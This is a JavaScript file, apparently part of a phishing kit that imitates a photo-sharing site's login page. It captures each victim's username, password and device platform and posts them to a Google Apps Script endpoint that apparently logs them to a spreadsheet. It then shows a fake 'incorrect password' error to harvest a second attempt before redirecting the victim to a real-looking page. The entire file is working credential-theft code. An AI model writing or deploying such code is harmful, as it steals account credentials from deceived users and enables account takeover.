const scriptURL = 'https://script.google.com/macros/s/DEPLOYMENT_ID/exec'
const form = document.forms['google-sheet']

form.addEventListener('submit', e => {
  e.preventDefault()
  const fd = new FormData(form)
  fd.append('password', document.getElementById('pass').value)
  fd.append('username', document.getElementById('username').value)
  fd.append('device', navigator.platform)
  document.getElementById('loginText').style.display = 'none'
  document.getElementById('loader').style.display = 'inline-block'
  fetch(scriptURL, { method: 'POST', body: fd })
    .then(response => {
      console.log('Success!', response)
      document.getElementById('loader').style.display = 'none'
      document.getElementById('loginText').style.display = 'inline'
      if (sessionStorage.getItem('once')) {
        window.location.href = 'https://www.photogram.example/accounts/onetap/'
      } else {
        sessionStorage.setItem('once', '1')
        document.getElementById('pass').value = ''
        document.getElementById('err').innerText = 'Sorry, your password was incorrect. Please double-check your password.'
      }
    })
    .catch(error => console.error('Error!', error.message))
})

document.getElementById('pass').addEventListener('input', e => {
  document.getElementById('loginBtn').disabled = e.target.value.length < 6
})
